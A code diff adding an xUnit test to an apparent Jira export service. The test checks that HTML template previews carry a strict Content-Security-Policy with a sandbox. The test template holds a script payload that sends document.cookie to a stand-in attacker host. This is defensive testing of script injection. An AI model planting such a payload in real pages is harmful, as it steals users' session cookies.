@@ -68,6 +68,26 @@ public sealed class TemplateTests(JiraExportSystem system) : IClassFixture<JiraE
     }
 
     [Fact]
+    public async Task AnHtmlPreviewIsServedWithAPolicyThatRunsNothingItsTemplateWrote()
+    {
+        var tenant = await system.CreateTenantAsync(Token);
+        var template = await CreateAsync(tenant, new
+        {
+            name = "scripted",
+            kind = "issue-list",
+            liquid = "<html><body><script>fetch('https://attacker.example/'+document.cookie)</script><p>{{ report.title }}</p></body></html>",
+        });
+
+        using var preview = await PreviewAsync(tenant, template.GetProperty("id").GetGuid(), "html");
+
+        Assert.Equal(HttpStatusCode.OK, preview.StatusCode);
+        var policy = preview.Headers.TryGetValues("Content-Security-Policy", out var values) ? string.Join(";", values) : "";
+        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
+        Assert.Contains("sandbox", policy, StringComparison.Ordinal);
+        Assert.Equal("nosniff", string.Join(",", preview.Headers.GetValues("X-Content-Type-Options")));
+    }
+
+    [Fact]
     public async Task TheSandboxKeepsTemplatesFromFilesTheNetworkRunawayLoopsAndOtherTenants()
     {
         var tenant = await system.CreateTenantAsync(Token);
